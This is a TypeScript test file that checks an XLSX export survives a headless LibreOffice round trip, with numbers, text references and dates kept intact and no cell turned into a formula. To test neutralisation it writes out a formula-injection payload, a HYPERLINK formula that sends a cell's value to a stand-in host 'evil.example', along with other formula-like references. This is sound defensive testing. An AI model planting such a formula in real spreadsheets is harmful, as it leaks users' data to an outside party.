/**
 * A real spreadsheet opens the XLSX export: LibreOffice converts it, headless, to flat
 * ODF (.fods) and to CSV; amounts come out as the same numbers, references as the same text, dates
 * as dates, hostile text as plain (neutralised) strings, and no cell is a formula.
 * Without `soffice` on the PATH this fails under CI and is skipped (with the reason) elsewhere.
 */
import { spawnSync } from 'node:child_process';
import { readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { XMLParser } from 'fast-xml-parser';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ExportColumn } from '../../src/main/core/export/columns';
import { writeXlsx } from '../../src/main/core/export/xlsx';
import { HOSTILE_TEXTS } from '../../src/simulator/data/adversarial';
import { makeTempDir } from '../helpers/temp-dir';

const soffice = spawnSync('sh', ['-c', 'command -v soffice'], { encoding: 'utf8' }).stdout.trim();
if (soffice === '' && process.env.CI)
  throw new Error('soffice (LibreOffice) is not installed: CI must install libreoffice-calc-nogui.');
if (soffice === '') console.warn('Skipping the LibreOffice round trip: soffice is not on the PATH.');

interface Row {
  reference: string;
  /** The reference as the cell must show it, written by hand. */
  shown: string;
  amount: string;
  currency: string;
  day: string;
  label: string;
}

const ROWS: Row[] = [
  ['000123', '2500.00', 'GBP'],
  ['12345678901234567890', '-2500.00', 'GBP'],
  ['RF0012', '1500', 'JPY'],
  ['=1+1', '-7', 'JPY'],
  ['-42', '12.345', 'KWD'],
  ['@ref', '-0.001', 'KWD'],
  ['0', '9999999999999.99', 'USD'],
].map(([reference, amount, currency], i) => ({
  reference: reference!,
  shown: ['000123', '12345678901234567890', 'RF0012', "'=1+1", "'-42", "'@ref", '0'][i]!,
  amount: amount!,
  currency: currency!,
  day: `2026-0${(i % 9) + 1}-1${i}`,
  label: i === 2 ? 'literal _x0041_ escape' : HOSTILE_TEXTS[i % HOSTILE_TEXTS.length]!,
}));

const COLUMNS: ExportColumn<Row>[] = [
  { key: 'reference', header: 'Reference', kind: 'reference', value: (r) => r.reference },
  { key: 'amount', header: 'Amount', kind: 'amount', value: (r) => r.amount, currency: (r) => r.currency },
  { key: 'day', header: 'Date', kind: 'date', value: (r) => r.day },
  { key: 'label', header: 'Label', kind: 'text', value: (r) => r.label },
];

type Node = Record<string, unknown>;
const list = (value: unknown): Node[] =>
  (value === undefined ? [] : Array.isArray(value) ? value : [value]) as Node[];

/** Each row's cells, `table:number-columns-repeated` expanded. */
function fodsRows(xml: string): Node[][] {
  const doc = new XMLParser({
    ignoreAttributes: false,
    attributeNamePrefix: '',
    parseAttributeValue: false,
    parseTagValue: false,
  }).parse(xml) as Node;
  const body = ((doc['office:document'] as Node)['office:body'] as Node)['office:spreadsheet'] as Node;
  const table = list(body['table:table'])[0]!;
  return list(table['table:table-row']).map((row) =>
    list(row['table:table-cell']).flatMap((cell) =>
      Array.from({ length: Math.min(Number(cell['table:number-columns-repeated'] ?? 1), 20) }, () => cell),
    ),
  );
}

const paragraph = (cell: Node | undefined): string => {
  const p = cell?.['text:p'];
  return typeof p === 'string' ? p : String((p as Node | undefined)?.['#text'] ?? '');
};

let temp: ReturnType<typeof makeTempDir>;
let profile: string;

function convert(file: string, to: string): string {
  const result = spawnSync(
    soffice,
    [`-env:UserInstallation=file://${profile}`, '--headless', '--convert-to', to, '--outdir', temp.dir, file],
    { encoding: 'utf8', timeout: 120_000 },
  );
  if (result.status !== 0) throw new Error(`soffice failed: ${result.stderr}`);
  return join(temp.dir, `export.${to.split(':')[0]}`);
}

describe.skipIf(soffice === '')('LibreOffice opens the XLSX export', () => {
  let fods: string;
  let csv: string;

  beforeAll(async () => {
    temp = makeTempDir();
    profile = join(tmpdir(), `floatdesk-lo-${process.pid}-${Date.now()}`);
    const path = join(temp.dir, 'export.xlsx');
    await writeXlsx([{ title: 'Export', columns: COLUMNS, rows: ROWS, totalRows: ROWS.length }], path);
    fods = readFileSync(convert(path, 'fods'), 'utf8');
    csv = readFileSync(convert(path, 'csv'), 'utf8');
  }, 240_000);
  afterAll(() => {
    temp?.cleanup();
    rmSync(profile, { recursive: true, force: true });
  });

  it('keeps amounts as the same numbers, references as the same text, dates as dates', () => {
    const rows = fodsRows(fods);
    expect(rows[0]!.slice(0, 5).map(paragraph)).toEqual(['Reference', 'Amount', 'Date', 'Label', 'Notes']);
    ROWS.forEach((row, i) => {
      const [reference, amount, day, label] = rows[i + 1]!;
      expect(reference).toMatchObject({ 'office:value-type': 'string' });
      expect(paragraph(reference)).toBe(row.shown);
      expect(amount).toMatchObject({ 'office:value-type': 'float' });
      expect(Number(amount!['office:value'])).toBe(Number(row.amount));
      expect(day).toMatchObject({
        'office:value-type': 'date',
        'office:date-value': expect.stringMatching(new RegExp(`^${row.day}`)),
      });
      expect(label).toMatchObject({ 'office:value-type': 'string' });
    });
    // The OOXML escape of a literal "_x0041_" is undone by LibreOffice exactly as by our reader.
    expect(paragraph(rows[3]![3])).toBe('literal _x0041_ escape');
    expect(HOSTILE_TEXTS[0]).toBe('=HYPERLINK("http://evil.example/?leak="&A1,"Click for balance")');
    expect(paragraph(rows[1]![3])).toBe('\'=HYPERLINK("http://evil.example/?leak="&A1,"Click for balance")');
  });

  it('makes no cell a formula', () => {
    expect(fods).not.toMatch(/table:formula=/);
  });

  it('re-saves as CSV with references as the same text, amounts as plain numbers, dates as ISO', () => {
    const lines = csv.split(/\r?\n/);
    expect(lines[1]!.startsWith('000123,')).toBe(true);
    expect(lines[2]!.startsWith('12345678901234567890,')).toBe(true);
    expect(lines[4]!.startsWith("'=1+1,")).toBe(true);
    expect(lines[1]).toContain(',2500,2026-01-10,');
    expect(lines[2]).toContain(',-2500,2026-02-11,');
    expect(lines[3]).toContain(',1500,');
    expect(lines[5]).toContain(',12.345,');
    expect(lines[7]).toContain(',9999999999999.99,');
  });
});
